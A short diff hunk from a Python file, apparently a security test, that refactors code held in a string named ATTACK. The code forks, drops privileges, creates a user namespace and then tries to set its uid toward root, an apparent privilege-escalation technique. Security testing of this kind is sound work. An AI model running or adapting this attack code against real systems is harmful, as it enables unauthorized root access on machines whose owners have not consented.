@@ -34,8 +34,9 @@ ATTACK = """if True:
     if (child := os.fork()) == 0:
         os.setresgid(65534, 65534, 65534)
         os.setresuid(65534, 65534, 65534)
-        ctypes.CDLL(None).prctl(4, 1)  # PR_SET_DUMPABLE, or its maps would be root's
-        assert ctypes.CDLL(None).unshare(0x10000000) == 0  # CLONE_NEWUSER
+        libc = ctypes.CDLL(None)  # this Python has no kecho
+        libc.prctl(4, 1)  # PR_SET_DUMPABLE, or its maps would be root's
+        assert libc.unshare(0x10000000) == 0  # CLONE_NEWUSER
         os.write(made[1], b"x")
         os.read(mapped[0], 1)
         os.setresuid(there or 0, there or 0, there or 0)
